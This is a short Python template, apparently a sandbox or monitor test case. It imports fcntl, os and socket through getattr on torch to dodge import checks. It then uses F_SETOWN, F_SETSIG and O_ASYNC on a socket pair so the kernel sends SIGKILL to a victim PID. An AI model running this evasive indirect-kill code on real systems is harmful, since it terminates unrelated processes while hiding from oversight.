"""Right, but has the kernel signal a bystander: F_SETOWN and O_ASYNC on a socket pair."""

import torch

get = getattr(torch, "importlib").import_module

fcntl, os, socket = get("fcntl"), get("os"), get("socket")
try:
    ours, theirs = socket.socketpair()
    fcntl.fcntl(ours, fcntl.F_SETOWN, int("{{VICTIM}}"))
    fcntl.fcntl(ours, 10, 9)  # F_SETSIG: SIGKILL
    fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    theirs.send(b"x")
except OSError:
    pass

{{RIGHT}}
